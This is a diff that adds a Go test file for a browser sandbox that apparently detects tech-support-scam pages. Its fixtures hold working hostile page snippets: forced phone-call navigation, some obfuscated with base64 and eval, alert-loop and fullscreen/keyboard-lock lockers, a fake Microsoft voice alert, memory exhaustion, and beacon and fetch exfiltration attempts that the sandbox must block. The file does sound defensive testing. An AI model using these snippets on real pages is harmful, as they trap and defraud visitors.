@@ -1,0 +1,421 @@
+package sandbox
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"github.com/tssguard/tssguard/capture"
+)
+
+var testPool *Pool
+
+func TestMain(m *testing.M) {
+	if _, err := findChromium(""); err != nil {
+		fmt.Println("sandbox tests skipped:", err)
+		os.Exit(0)
+	}
+	p, err := New(context.Background(), Options{TabsPerBrowser: 2, PageTimeout: 20 * time.Second})
+	if err != nil {
+		fmt.Println(err)
+		os.Exit(1)
+	}
+	testPool = p
+	code := m.Run()
+	p.Close()
+	os.Exit(code)
+}
+
+const observe = 700 * time.Millisecond
+
+// load serves the given files (name -> content) from a temporary root and
+// captures the first one.
+func load(t *testing.T, files map[string]string, page string, o PageOptions) *capture.Capture {
+	t.Helper()
+	root := t.TempDir()
+	for name, body := range files {
+		p := filepath.Join(root, name)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if o.Observe == 0 {
+		o.Observe = observe
+	}
+	c, err := testPool.Capture(context.Background(), Target{Root: root, File: page}, o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return c
+}
+
+func events(c *capture.Capture, kind capture.EventKind) []capture.Event {
+	var out []capture.Event
+	for _, e := range c.Runtime.Events {
+		if e.Kind == kind {
+			out = append(out, e)
+		}
+	}
+	return out
+}
+
+func count(c *capture.Capture, kind capture.EventKind, gesture bool) int {
+	n := 0
+	for _, e := range events(c, kind) {
+		if e.AfterGesture == gesture {
+			n += e.Count
+		}
+	}
+	return n
+}
+
+const num = "tel:+18445550142"
+
+func TestCallSchemeVariants(t *testing.T) {
+	t.Parallel()
+	pages := map[string]string{
+		"click":          `<a id=c href="` + num + `">x</a><script>document.getElementById('c').click()</script>`,
+		"dispatchEvent":  `<a id=c href="` + num + `">x</a><script>document.getElementById('c').dispatchEvent(new MouseEvent('click',{bubbles:true}))</script>`,
+		"location":       `<script>location = '` + num + `'</script>`,
+		"location.href":  `<script>window.addEventListener('load', function(){ location.href = '` + num + `' })</script>`,
+		"assign":         `<script>setTimeout(function(){ location.assign('` + num + `') }, 100)</script>`,
+		"replace":        `<script>location.replace('` + num + `')</script>`,
+		"window.open":    `<script>window.open('` + num + `')</script>`,
+		"meta refresh":   `<meta http-equiv="refresh" content="0;url=` + num + `">`,
+		"iframe":         `<iframe src="` + num + `" style="display:none"></iframe>`,
+		"iframe script":  `<body><script>var f=document.createElement('iframe'); f.src='` + num + `'; document.body.appendChild(f)</script></body>`,
+		"form submit":    `<form action="` + num + `"></form><script>document.forms[0].submit()</script>`,
+		"callto":         `<script>location.href = 'callto:+18445550142'</script>`,
+		"skype":          `<a id=s href="skype:+18445550142?call"></a><script>document.getElementById('s').click()</script>`,
+		"obfuscated":     `<script>eval(atob('bG9jYXRpb24uaHJlZj0idGVsOisxODQ0NTU1MDE0MiI='))</script>`,
+		"fromCharCode":   `<script>location.href=String.fromCharCode(116,101,108,58,43,49,56,52,52,53,53,53,48,49,52,50)</script>`,
+		"cross-origin":   `<iframe src="https://frame.tssguard.test/inner.html"></iframe>`,
+		"written anchor": `<script>document.write('<a id=w href="` + num + `">x</a>'); document.getElementById('w').click()</script>`,
+	}
+	for name, html := range pages {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			files := map[string]string{"index.html": html, "inner.html": `<script>top.location.href = '` + num + `'</script><a id=c href="` + num + `"></a><script>document.getElementById('c').click()</script>`}
+			c := load(t, files, "index.html", PageOptions{})
+			ev := events(c, capture.EventCallNavigation)
+			if len(ev) == 0 {
+				t.Fatalf("no call-scheme navigation; events %+v", c.Runtime.Events)
+			}
+			if ev[0].AfterGesture || !strings.Contains(strings.ToLower(ev[0].Detail), "18445550142") {
+				t.Errorf("event %+v", ev[0])
+			}
+		})
+	}
+}
+
+func TestLockers(t *testing.T) {
+	t.Parallel()
+	t.Run("dialog loop", func(t *testing.T) {
+		t.Parallel()
+		c := load(t, map[string]string{"p.html": `<script>while(true){ alert('Your computer is blocked') }</script>`}, "p.html", PageOptions{})
+		if n := count(c, capture.EventDialog, false); n < 3 {
+			t.Errorf("dialogs = %d, want a storm", n)
+		}
+		if !c.Runtime.Interrupted {
+			t.Error("not interrupted")
+		}
+	})
+	t.Run("busy loop", func(t *testing.T) {
+		t.Parallel()
+		start := time.Now()
+		c := load(t, map[string]string{"p.html": `<p>hi</p><script>while(true){}</script>`}, "p.html", PageOptions{})
+		if !c.Runtime.Interrupted {
+			t.Error("busy loop not interrupted")
+		}
+		t.Logf("busy loop page took %v", time.Since(start))
+	})
+	t.Run("beforeunload history print popups", func(t *testing.T) {
+		t.Parallel()
+		c := load(t, map[string]string{"p.html": `<script>
+window.onbeforeunload = function(){ return 'stay' };
+addEventListener('beforeunload', function(e){ e.returnValue = 'x' });
+for (var i = 0; i < 20; i++) history.pushState({}, '', '#' + i);
+setTimeout(function(){ window.print(); window.print(); }, 10);
+for (var j = 0; j < 5; j++) window.open('https://site.tssguard.test/p.html?' + j);
+</script>`}, "p.html", PageOptions{})
+		if count(c, capture.EventBeforeUnload, false) < 2 {
+			t.Errorf("beforeunload: %+v", events(c, capture.EventBeforeUnload))
+		}
+		if n := count(c, capture.EventHistory, false); n < 20 {
+			t.Errorf("history = %d", n)
+		}
+		if n := count(c, capture.EventPrint, false); n < 2 {
+			t.Errorf("print = %d", n)
+		}
+		if n := count(c, capture.EventPopup, false); n < 1 {
+			t.Errorf("popups = %d (the popup blocker may stop some, but the attempt is seen)", n)
+		}
+	})
+	t.Run("download", func(t *testing.T) {
+		t.Parallel()
+		c := load(t, map[string]string{"p.html": `<script>for (var i=0;i<3;i++){ var a=document.createElement('a'); a.href='data:text/plain,x'+i; a.download='v'+i+'.txt'; a.click(); }</script>`}, "p.html", PageOptions{})
+		if n := count(c, capture.EventDownload, false); n < 3 {
+			t.Errorf("downloads = %d", n)
+		}
+	})
+}
+
+func TestMedia(t *testing.T) {
+	t.Parallel()
+	c := load(t, map[string]string{"p.html": `<audio autoplay src="a.wav"></audio>
+<script>speechSynthesis.speak(new SpeechSynthesisUtterance('Critical alert from Microsoft'))</script>`, "a.wav": wav()}, "p.html", PageOptions{})
+	sp := events(c, capture.EventSpeech)
+	if len(sp) == 0 || !strings.Contains(sp[0].Detail, "Critical alert") {
+		t.Errorf("speech: %+v", sp)
+	}
+	if len(events(c, capture.EventAudio)) == 0 {
+		t.Errorf("no audio event: %+v", c.Runtime.Events)
+	}
+}
+
+// wav is a tiny valid WAV file (silence).
+func wav() string {
+	data := make([]byte, 800)
+	h := []byte("RIFF")
+	le := func(v uint32) []byte { return []byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)} }
+	h = append(h, le(uint32(36+len(data)))...)
+	h = append(h, "WAVEfmt "...)
+	h = append(h, le(16)...)
+	h = append(h, 1, 0, 1, 0)
+	h = append(h, le(8000)...)
+	h = append(h, le(8000)...)
+	h = append(h, 1, 0, 8, 0)
+	h = append(h, "data"...)
+	h = append(h, le(uint32(len(data)))...)
+	for i := range data {
+		data[i] = 128
+	}
+	return string(append(h, data...))
+}
+
+func TestClickThenLock(t *testing.T) {
+	t.Parallel()
+	page := `<p style="height:100vh">Click to play the video</p><script>
+document.addEventListener('click', function(){
+  document.documentElement.requestFullscreen();
+  navigator.keyboard.lock();
+  document.body.requestPointerLock();
+  location.href = '` + num + `';
+});</script>`
+	files := map[string]string{"p.html": page}
+	quiet := load(t, files, "p.html", PageOptions{})
+	if n := len(quiet.Runtime.Events); n != 0 {
+		t.Errorf("without a click: %d events %+v", n, quiet.Runtime.Events)
+	}
+	c := load(t, files, "p.html", PageOptions{Click: true})
+	for _, k := range []capture.EventKind{capture.EventFullscreen, capture.EventKeyboardLock, capture.EventPointerLock, capture.EventCallNavigation} {
+		if count(c, k, true) == 0 {
+			t.Errorf("%s after the click: missing; events %+v", k, c.Runtime.Events)
+		}
+		if count(c, k, false) != 0 {
+			t.Errorf("%s before the click", k)
+		}
+	}
+	if !c.Runtime.Clicked {
+		t.Error("Clicked not set")
+	}
+}
+
+func TestHardNegatives(t *testing.T) {
+	t.Parallel()
+	// A call button and a game's full screen act only on their own click.
+	page := `<button id="call" style="position:absolute;top:0;left:0">Call</button>
+<button id="play" style="position:absolute;top:0;left:80px">Play</button>
+<script>
+document.getElementById('call').addEventListener('click', function(){ location.href = '` + num + `'; });
+document.getElementById('play').addEventListener('click', function(){ document.documentElement.requestFullscreen(); navigator.keyboard.lock(); });
+</script>`
+	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Click: true})
+	if n := len(c.Runtime.Events); n != 0 {
+		t.Errorf("events on a page whose actions need their own buttons: %+v", c.Runtime.Events)
+	}
+}
+
+func TestProfiles(t *testing.T) {
+	t.Parallel()
+	page := `<meta name="viewport" content="width=device-width"><body><script>document.body.innerText = [navigator.userAgent, navigator.maxTouchPoints, innerWidth, navigator.platform].join('|')</script></body>`
+	for _, pr := range []string{"windows", "mac", "android", "iphone"} {
+		t.Run(pr, func(t *testing.T) {
+			t.Parallel()
+			c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Profile: pr})
+			want := profiles[pr]
+			ua, _ := capture.UserAgentFor(pr)
+			parts := strings.Split(c.Runtime.VisibleText, "|")
+			if len(parts) != 4 {
+				t.Fatalf("visible text %q", c.Runtime.VisibleText)
+			}
+			if parts[0] != ua {
+				t.Errorf("userAgent %q, want %q", parts[0], ua)
+			}
+			if (parts[1] != "0") != want.touch {
+				t.Errorf("maxTouchPoints %s for %s", parts[1], pr)
+			}
+			if parts[2] != fmt.Sprint(want.width) {
+				t.Errorf("innerWidth %s, want %d", parts[2], want.width)
+			}
+			if parts[3] != want.platform {
+				t.Errorf("platform %s, want %s", parts[3], want.platform)
+			}
+		})
+	}
+}
+
+// TestContainment: a page tries every way out to a non-allowed address; a
+// listener there must see no connection, and the report lists each attempt.
+func TestContainment(t *testing.T) {
+	t.Parallel()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	var hits atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			hits.Add(1)
+			c.Close()
+		}
+	}()
+	out := "127.0.0.1:" + fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
+	page := `<script>
+try { new WebSocket('ws://` + out + `/ws'); } catch (e) {}
+fetch('http://` + out + `/fetch').catch(function(){});
+var i = new Image(); i.src = 'http://` + out + `/img.png'; document.body && document.body.appendChild(i);
+navigator.sendBeacon('http://` + out + `/beacon', 'stolen');
+</script><iframe src="http://` + out + `/frame"></iframe><img src="http://` + out + `/tag.png">`
+	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Observe: 1500 * time.Millisecond})
+	if n := hits.Load(); n != 0 {
+		t.Fatalf("%d connections reached the non-allowed address", n)
+	}
+	for _, path := range []string{"/ws", "/fetch", "/img.png", "/beacon", "/frame", "/tag.png"} {
+		found := false
+		for _, r := range c.Runtime.Requests {
+			if strings.Contains(r.URL, out+path) {
+				found = true
+				if !r.Blocked {
+					t.Errorf("%s listed but not blocked: %+v", path, r)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("attempt to %s not listed; requests %+v", path, c.Runtime.Requests)
+		}
+	}
+}
+
+func TestNoExternalHandler(t *testing.T) {
+	b := testPool.all[0]
+	b.mu.Lock()
+	ctx := b.ctx
+	b.mu.Unlock()
+	if ctx == nil {
+		load(t, map[string]string{"p.html": "<p>x"}, "p.html", PageOptions{})
+		b.mu.Lock()
+		ctx = b.ctx
+		b.mu.Unlock()
+	}
+	proc := chromedp.FromContext(ctx).Browser.Process()
+	if proc == nil {
+		t.Skip("no browser process handle")
+	}
+	env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", proc.Pid))
+	if err != nil {
+		t.Skip(err)
+	}
+	for _, kv := range strings.Split(string(env), "\x00") {
+		if path, ok := strings.CutPrefix(kv, "PATH="); ok {
+			for _, dir := range filepath.SplitList(path) {
+				for _, tool := range []string{"xdg-open", "xdg-settings", "gio", "kde-open"} {
+					if _, err := os.Stat(filepath.Join(dir, tool)); err == nil {
+						t.Errorf("%s is reachable on the browser's PATH (%s)", tool, dir)
+					}
+				}
+			}
+			return
+		}
+	}
+	t.Error("browser has no PATH")
+}
+
+func TestCrashAndRecovery(t *testing.T) {
+	c := load(t, map[string]string{"p.html": `<script>var a=[]; while(true){ a.push(new Array(1e6).fill(Math.random())); }</script>`}, "p.html", PageOptions{})
+	if !c.Runtime.Crashed && !c.Runtime.Interrupted {
+		t.Errorf("runaway allocation neither crashed nor was interrupted: %+v", c.Notes)
+	}
+	ok := load(t, map[string]string{"p.html": `<a id=c href="` + num + `"></a><script>document.getElementById('c').click()</script>`}, "p.html", PageOptions{})
+	if len(events(ok, capture.EventCallNavigation)) == 0 {
+		t.Errorf("pool unhealthy after a crash: %+v %v", ok.Runtime.Events, ok.Notes)
+	}
+}
+
+func TestURLTargets(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/start":
+			http.Redirect(w, r, "/page?phone=18445550142", http.StatusFound)
+		default:
+			fmt.Fprint(w, `<p>Your computer is blocked</p><script>location.href='tel:'+new URLSearchParams(location.search).get('phone')</script>`)
+		}
+	}))
+	defer srv.Close()
+	lab := capture.DefaultPolicy()
+	lab.AllowPrivate = true
+	p, err := New(context.Background(), Options{Policy: lab})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer p.Close()
+	c, err := p.Capture(context.Background(), Target{URL: srv.URL + "/start"}, PageOptions{Observe: observe})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ev := events(c, capture.EventCallNavigation); len(ev) == 0 || ev[0].Detail != "tel:18445550142" {
+		t.Errorf("call navigation: %+v", c.Runtime.Events)
+	}
+	if !strings.HasSuffix(c.FinalURL, "/page?phone=18445550142") || len(c.Redirects) != 2 {
+		t.Errorf("final %s redirects %v", c.FinalURL, c.Redirects)
+	}
+	// The default policy refuses loopback: nothing loads.
+	c, err = testPool.Capture(context.Background(), Target{URL: srv.URL + "/page?phone=1"}, PageOptions{Observe: observe})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(events(c, capture.EventCallNavigation)) != 0 {
+		t.Error("a loopback URL loaded under the default policy")
+	}
+	blocked := false
+	for _, r := range c.Runtime.Requests {
+		blocked = blocked || (r.Blocked && strings.Contains(r.Reason, "not allowed"))
+	}
+	if !blocked {
+		t.Errorf("requests %+v, want the page refused by policy", c.Runtime.Requests)
+	}
+}
+
+func TestNoChromium(t *testing.T) {
+	_, err := New(context.Background(), Options{ChromiumPath: "/nonexistent/chromium"})
+	if !errors.Is(err, ErrNoChromium) || !strings.Contains(err.Error(), "apt-get install -y chromium") {
+		t.Errorf("err = %v", err)
+	}
+}
